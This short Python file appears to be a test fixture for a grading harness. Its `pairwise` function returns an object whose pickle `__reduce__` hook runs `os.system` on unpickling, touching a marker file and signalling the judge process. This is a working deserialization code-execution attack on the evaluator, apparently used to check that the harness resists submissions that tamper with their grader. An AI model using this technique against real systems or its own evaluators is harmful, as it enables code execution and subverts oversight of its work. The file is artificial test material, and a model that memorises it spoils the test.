# ruff: noqa
"""Answers with an object that runs a command when it is unpickled."""

import os

import target
from tools import attempt

HONEST = {"kernels.pairwise": 0}


class Payload:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{target.MARKER}; kill -USR1 {target.JUDGE}",)

    def __getstate__(self):
        return {"a": self}


def pairwise(x, y):
    attempt()
    return Payload()
